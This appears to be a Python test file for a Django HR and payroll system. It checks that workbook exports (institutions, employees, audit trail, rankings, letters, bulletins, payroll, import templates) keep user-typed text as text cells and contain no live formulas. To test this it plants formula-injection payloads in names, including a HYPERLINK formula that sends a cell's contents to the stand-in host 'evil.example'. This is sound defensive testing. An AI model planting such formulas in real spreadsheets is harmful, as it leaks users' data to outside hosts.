"""No live formula in any workbook the system writes (issue 16, item 1; docs/SECURITY.md).

Text typed by users — an institution's name through the API or the organisation import, an
employee's name, a letter holder's name from the cascade, a standard's item, and the audit trail
and bulletins that repeat them — is planted with the payloads below, then each export is read as
XML: every such text is a text cell (t="s" or "inlineStr", quote-prefixed where a spreadsheet would
take it for a formula when edited), no workbook holds a single <f>, and the numbers in the same
files are still numeric cells. Every export goes through orgs.streaming.cell_write; the import
templates too, whose example rows stay numbers where they are numbers (a negative one included).
"""

import datetime
import io
import json
import re
import zipfile
from dataclasses import dataclass
from decimal import Decimal as D

import openpyxl
import pytest
from defusedxml import ElementTree
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from openpyxl.utils import get_column_letter

from acceptance import services as acceptance
from appraisal import services as appraisal
from appraisal.models import Result
from appraisal.recompute import year_results_recompute
from appraisal.transfer import year_template_bytes
from appraisal.transfer.columns import SHEET_COLUMNS as YEAR_SHEETS
from bulletins import services as bulletins
from letters import services as letters
from orgs import importing
from orgs.importing.columns import SHEET_COLUMNS as ORG_SHEETS
from orgs.models import AuditEvent, Employee, Institution
from orgs.streaming import (
    ReusedCell,
    cell_write,
    formula_like,
    row_cells,
    streaming_workbook,
)
from payroll import services as payroll
from payroll.transfer import PAYROLL_SHEETS, jobs, payroll_template_bytes
from tests.acceptance.conftest import pilots  # noqa: F401 — fixtures
from tests.appraisal.conftest import _english, year  # noqa: F401
from tests.bulletins.conftest import ranked  # noqa: F401
from tests.letters.conftest import letter  # noqa: F401
from tests.payroll.conftest import paid_year  # noqa: F401

from ..factories import PASSWORD, UserFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"查看详情")'
PAYLOADS = (HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
API = "/api/v1/"
JAN = datetime.date(2026, 1, 1)
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


# --- Reading a workbook as XML -------------------------------------------------------------------


@dataclass(frozen=True)
class XmlCell:
    part: str  # the sheet's part in the zip
    ref: str  # A1
    type: str  # the t attribute: "s", "inlineStr", "n" (also when absent), "b", "str", …
    formula: bool  # holds an <f>
    quoted: bool  # its style has quotePrefix="1"
    text: str | None  # its value as written (a shared string resolved)


def _texts(element) -> str:
    return "".join(t.text or "" for t in element.iter(f"{{{NS['m']}}}t"))


def xml_cells(content: bytes) -> list[XmlCell]:
    archive = zipfile.ZipFile(io.BytesIO(content))
    names = archive.namelist()
    shared = []
    if "xl/sharedStrings.xml" in names:
        root = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
        shared = [_texts(si) for si in root.findall("m:si", NS)]
    styles = ElementTree.fromstring(archive.read("xl/styles.xml"))
    quote_prefixed = [
        xf.get("quotePrefix") in ("1", "true") for xf in styles.findall("m:cellXfs/m:xf", NS)
    ]
    cells = []
    for part in sorted(n for n in names if re.fullmatch(r"xl/worksheets/[^/]+\.xml", n)):
        root = ElementTree.fromstring(archive.read(part))
        for c in root.iter(f"{{{NS['m']}}}c"):
            kind = c.get("t", "n")
            v = c.find("m:v", NS)
            if kind == "s":
                text = shared[int(v.text)]
            elif kind == "inlineStr":  # an empty text has no <is>
                inline = c.find("m:is", NS)
                text = _texts(inline) if inline is not None else ""
            else:
                text = v.text if v is not None else None
            cells.append(
                XmlCell(
                    part=part,
                    ref=c.get("r"),
                    type=kind,
                    formula=c.find("m:f", NS) is not None,
                    quoted=quote_prefixed[int(c.get("s", "0"))],
                    text=text,
                )
            )
    return cells


def _same(written: str | None, text: str) -> bool:
    # An XML parser reads a raw carriage return as a line feed: compare the two alike.
    def norm(s):
        return s.replace("\r\n", "\n").replace("\r", "\n")

    return written is not None and norm(written) == norm(text)


def assert_text_cells(content: bytes, texts) -> list[XmlCell]:
    """No formula anywhere in the workbook; each text is in it, only as a text cell, with the
    quote prefix where a spreadsheet would take it for a formula."""
    cells = xml_cells(content)
    assert [c for c in cells if c.formula] == []
    for text in texts:
        found = [c for c in cells if _same(c.text, text)]
        assert found, f"{text!r} is not in the workbook"
        for cell in found:
            assert cell.type in ("s", "inlineStr"), (text, cell)
            assert cell.quoted or not formula_like(text), (text, cell)
    return cells


def assert_numbers(cells: list[XmlCell], numbers) -> None:
    """Each number is in a numeric cell of the workbook (not text)."""
    numeric = [D(c.text) for c in cells if c.type == "n" and c.text is not None]
    for number in numbers:
        assert D(number) in numeric, f"{number} is not a numeric cell"
    text_numbers = [c for c in cells if c.type in ("s", "inlineStr") and _is_number(c.text)]
    assert [c for c in text_numbers if D(c.text) in [D(n) for n in numbers]] == []


def _is_number(text: str | None) -> bool:
    return text is not None and re.fullmatch(r"-?\d+(\.\d+)?", text) is not None


def rename_through_the_api(client, code: str, name: str) -> None:
    response = client.patch(
        f"{API}institutions/{code}/", json.dumps({"name": name}), content_type="application/json"
    )
    assert response.status_code == 200, response.content


def download(response) -> bytes:
    assert response.status_code == 200, response
    return b"".join(response.streaming_content)


# --- The writer itself, on every kind of sheet ---------------------------------------------------


def _written(write) -> bytes:
    buffer = io.BytesIO()
    write().save(buffer)
    return buffer.getvalue()


def test_the_writer_keeps_text_as_text_and_numbers_as_numbers_on_every_kind_of_sheet():
    numbers = [D("-2.50"), -3, 1.5, D("0.07"), 0]
    values = [*PAYLOADS, "plain", *numbers]

    def streaming():  # orgs.streaming: a reused styled cell, and plain values
        workbook, ws = streaming_workbook("s")
        reused = ReusedCell(ws, number_format="@")
        for value in values:
            ws.append([reused.put(value), value])
        return workbook

    def write_only():  # openpyxl's own write-only sheet, with cells made by row_cells
        workbook = openpyxl.Workbook(write_only=True)
        ws = workbook.create_sheet("w")
        for value in values:
            ws.append(row_cells(ws, [value, value]))
        return workbook

    def normal():  # a workbook in memory (the acceptance report, the templates)
        workbook = openpyxl.Workbook()
        ws = workbook.active
        for row, value in enumerate(values, start=1):
            cell_write(ws.cell(row=row, column=1), value)
        ws.append(row_cells(ws, values))
        return workbook

    for write in (streaming, write_only, normal):
        content = _written(write)
        cells = assert_text_cells(content, [*PAYLOADS, "plain"])
        assert_numbers(cells, ["-2.50", "-3", "1.5", "0.07", "0"])
        assert [c.text for c in cells if c.text == "plain" and c.quoted] == []
        # Read back, the texts are the texts typed (nothing added in front).
        ws = openpyxl.load_workbook(io.BytesIO(content)).active
        read = {c.value for row in ws.iter_rows() for c in row}
        assert {HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1"} <= read


# --- Institutions, employees and the audit trail (orgs) ----------------------------------------


def _org_workbook(institutions, employees) -> bytes:
    """The upload, written by hand (not by the code under test): each text forced to a text cell,
    as a spreadsheet saves a quote-prefixed entry."""
    workbook = openpyxl.Workbook()
    sheets = {importing.INSTITUTION_SHEET: institutions, importing.EMPLOYEE_SHEET: employees}
    headers = {
        importing.INSTITUTION_SHEET: ["机构代码", "机构名称"],
        importing.EMPLOYEE_SHEET: ["工号", "姓名", "机构代码", "岗位", "岗位系数", "岗位工资"],
    }
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        ws = workbook.create_sheet(title)
        for r, row in enumerate([headers[title], *rows], start=1):
            for c, value in enumerate(row, start=1):
                cell = ws.cell(row=r, column=c, value=value)
                if isinstance(value, str):
                    cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.fixture
def planted(world, client_for):
    """HR renames A01 through the API and imports institutions and employees whose names are the
    payloads; the tab and carriage-return ones are trimmed by those doors, so they come in by
    another (an administrator, a migration) straight into the table."""
    hr = client_for("hr")
    rename_through_the_api(hr, "A01", HYPERLINK)
    content = _org_workbook(
        [["X01", "+1+1"], ["X02", "-2+3"], ["X03", "@SUM(A1)"]],
        [
            ["X0001", HYPERLINK, "A01", "=1+1", D("1.20"), D("1200.50")],
            ["X0002", "-2+3", "A01", "@x", D("1.00"), D("2800.00")],
        ],
    )
    response = hr.post(
        reverse("orgs:import_upload"), {"file": SimpleUploadedFile("o.xlsx", content)}
    )
    assert response.status_code == 200, response.context["errors"]
    Institution.objects.filter(code="B01").update(name="\t=1")
    Institution.objects.filter(code="C01").update(name="\r=1")
    Employee.objects.filter(staff_number="A0000").update(name="\t=1")
    Employee.objects.filter(staff_number="A0001").update(name="\r=1")
    return hr


def test_institutions_export(world, planted):
    cells = assert_text_cells(download(planted.get(reverse("orgs:institution_export"))), PAYLOADS)
    headcounts = Institution.objects.values_list("formal_headcount", flat=True)
    assert_numbers(cells, {str(n) for n in headcounts})


def test_employees_export(world, planted):
    url = reverse("orgs:institution_employees_export", kwargs={"code": "A01"})
    cells = assert_text_cells(
        download(planted.get(url)), [HYPERLINK, "-2+3", "\t=1", "\r=1", "=1+1", "@x"]
    )
    assert_numbers(cells, ["1.20", "1200.50", "2800.00"])


def test_audit_export(world, planted, client_for):
    AuditEvent.objects.create(
        actor=world.users["hr"], action="institution.update", object_type="orgs.institution",
        object_id="1", object_repr="\t=1", after={"name": "\t=1"},
    )  # fmt: skip
    # The audit administrator exports the trail (三员: HR no longer reads it).
    content = download(client_for("auditadmin").get(reverse("orgs:audit_export")))
    cells = assert_text_cells(content, [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1"])
    # The time of each event is a number (a date), not text.
    times = [c for c in cells if c.ref.startswith("A") and c.ref != "A1"]
    assert times and all(c.type == "n" and _is_number(c.text.split(".")[0]) for c in times)


# --- The rankings (appraisal): page, mid-year page, command --------------------------------------


@pytest.fixture
def rankings(world, year, client_for):  # noqa: F811
    hr = client_for("hr")
    rename_through_the_api(hr, "A01", HYPERLINK)
    Institution.objects.filter(code="B01").update(name="@SUM(A1)")
    Institution.objects.filter(code="C01").update(name="\t=1")
    world.g2.name = "-2+3"
    world.g2.save()
    appraisal.ledger_entry_create(
        actor=world.users["hr"], scheme=year.scheme, institution=world.c, kind="indicator",
        indicator=year.indicators["C1"], period="h1", points=D("-12.50"), reason="隐患",
    )  # fmt: skip
    year_results_recompute(scheme_id=year.scheme.pk)
    return hr


def test_rankings_export(world, year, rankings, tmp_path):  # noqa: F811
    url = reverse("appraisal:rankings_export", kwargs={"year": 2026})
    names = [HYPERLINK, "@SUM(A1)", "\t=1", "-2+3"]
    results = Result.objects.filter(scheme=year.scheme)
    year_numbers = {str(n) for r in results for n in (r.rank, r.common, r.total)}
    h1_numbers = {str(n) for r in results for n in (r.h1_rank, r.common_h1, r.h1_total)}
    assert "-12.50" not in year_numbers and len(year_numbers) > 3
    output = tmp_path / "rankings.xlsx"
    call_command("export_rankings", "2026", "-o", str(output), stdout=io.StringIO())
    for content in (download(rankings.get(url)), output.read_bytes()):
        assert_numbers(assert_text_cells(content, names), year_numbers)
    h1 = download(rankings.get(url + "?period=h1"))
    assert_numbers(assert_text_cells(h1, names), h1_numbers)


# --- Letters: the signing status ----------------------------------------------------------------


def test_letter_status_export(world, year, letter, client_for):  # noqa: F811
    signed = letters.letter_sign(
        actor=letter.signer, letter=letter, password=PASSWORD, client_address="10.0.0.7"
    )
    revenue = signed.items.get(indicator__code="B3")
    children = [
        letters.ChildLetter(
            holder,
            UserFactory(username=f"deputy{n}", role="", institution=world.a),
            {revenue.pk: D("200")},
        )
        for n, holder in enumerate(PAYLOADS)
    ]
    letters.letter_cascade(actor=world.users["head_a"], parent=signed, children=children)
    url = reverse("letters:status_export", kwargs={"year": 2026})
    cells = assert_text_cells(download(client_for("hr").get(url)), PAYLOADS)
    versions = [c for c in cells if c.ref.startswith("E") and c.ref != "E1"]
    assert versions and all(c.type == "n" and c.text == "1" for c in versions)


# --- Bulletins ----------------------------------------------------------------------------------


def test_bulletin_export(world, ranked, client_for):  # noqa: F811
    hr = client_for("hr")
    rename_through_the_api(hr, "A01", HYPERLINK)
    for code, name in (("E01", "+1+1"), ("F01", "-2+3"), ("G01", "@SUM(A1)"), ("D01", "\r=1")):
        Institution.objects.filter(code=code).update(name=name)
    world.g1.name = "\t=1"
    world.g1.save()
    year_results_recompute(scheme_id=ranked.scheme.pk)
    bulletin = bulletins.bulletin_generate(
        scheme=ranked.scheme, kind="monthly", day=datetime.date(2026, 11, 1)
    )
    url = reverse("bulletins:bulletin_xlsx", kwargs={"pk": bulletin.pk})
    cells = assert_text_cells(download(hr.get(url)), PAYLOADS)
    # Ranks and totals are numbers; the lagging A01 is warned about by its planted name, and the
    # warnings sheet names it as text too.
    assert_numbers(cells, ["1", "2", "3", "950.00", "1000.00"])
    warnings = [c for c in cells if c.part.endswith("sheet2.xml") and _same(c.text, HYPERLINK)]
    assert warnings and all(c.type in ("s", "inlineStr") and c.quoted for c in warnings)


# --- Acceptance: the batch report ----------------------------------------------------------------


def test_acceptance_report_export(world, pilots, client_for):  # noqa: F811
    hr = world.users["hr"]
    acceptance.standard_create(
        actor=hr,
        name="改过的标准",
        items=[("A", HYPERLINK, "tick"), ("B", "+1+1", "tick"), ("PAY", "-2+3", "payroll")],
    )
    for institution, name in zip(pilots.institutions, ("@SUM(A1)", "\t=1", "\r=1"), strict=False):
        Institution.objects.filter(pk=institution.pk).update(name=name)
    batch = acceptance.batch_create(
        actor=hr, name="第一批", team=pilots.team, date=datetime.date(2026, 11, 20),
        institutions=pilots.institutions[:5],
    )  # fmt: skip
    url = reverse("acceptance:batch_report_export", kwargs={"pk": batch.pk})
    cells = assert_text_cells(download(client_for("acceptance").get(url)), PAYLOADS)
    rounds = [c for c in cells if c.ref.startswith("C") and c.ref != "C1"]
    assert len(rounds) == 5 and all(c.type == "n" and c.text == "1" for c in rounds)


# --- Payroll: the API's export job and the command ----------------------------------------------


def test_payroll_export(world, paid_year, settings, tmp_path):  # noqa: F811
    settings.MEDIA_ROOT = tmp_path / "media"
    names = dict(zip(["A0000", "A0001", "A0002"], (HYPERLINK, "-2+3", "\t=1"), strict=True))
    for staff_number, name in names.items():
        Employee.objects.filter(staff_number=staff_number).update(name=name)
    Institution.objects.filter(code="A01").update(name="@SUM(A1)")
    Institution.objects.filter(code="B01").update(name="+1+1")
    for institution in (world.a, world.b):
        run = payroll.payroll_run_compute(actor=None, institution=institution, month=JAN)
        payroll.payroll_run_confirm(actor=world.users["hr"], run=run)
    money = [
        str(v)
        for v in payroll.PayrollLine.objects.filter(run__month=JAN).values_list("gross", flat=True)
    ]

    job = "0" * 32
    state = jobs.export_month(job, JAN.isoformat(), world.users["hr"].pk)
    assert state["state"] == "done", state
    output = tmp_path / "payroll.xlsx"
    call_command("export_payroll", "2026-01", "-o", str(output), stdout=io.StringIO())
    for content in (jobs.export_path(job).read_bytes(), output.read_bytes()):
        cells = assert_text_cells(content, [*names.values(), "@SUM(A1)", "+1+1"])
        assert_numbers(cells, money)


# --- The import templates: ours, written the same way, and still valid ---------------------------

# The example rows still import as they are: tests/orgs/test_import.py, tests/appraisal and
# tests/payroll test_transfer.py import each template as downloaded.
TEMPLATES = {
    "organisation": (importing.template_workbook_bytes, ORG_SHEETS),
    "year": (year_template_bytes, YEAR_SHEETS),
    "payroll": (payroll_template_bytes, PAYROLL_SHEETS),
}


@pytest.mark.parametrize("name", list(TEMPLATES))
def test_the_import_templates_write_numbers_as_numbers_and_no_formula(name):
    make, specs = TEMPLATES[name]
    content = make().getvalue()
    headers = [column.header for spec in specs.values() for column in spec]
    cells = {(c.part, c.ref): c for c in assert_text_cells(content, headers)}
    numbers = 0
    for index, spec in enumerate(specs.values(), start=1):
        for position, column in enumerate(spec, start=1):
            cell = cells.get((f"xl/worksheets/sheet{index}.xml", f"{get_column_letter(position)}2"))
            if isinstance(column.example, int | D):
                assert cell.type == "n" and D(cell.text) == column.example, (column, cell)
                numbers += 1
            elif column.example is not None:
                assert cell.type in ("s", "inlineStr") and cell.text == column.example
    assert numbers
    if name == "year":  # a deduction's points: a negative number, and a number
        assert any(c.type == "n" and c.text and D(c.text) == D("-2.50") for c in cells.values())
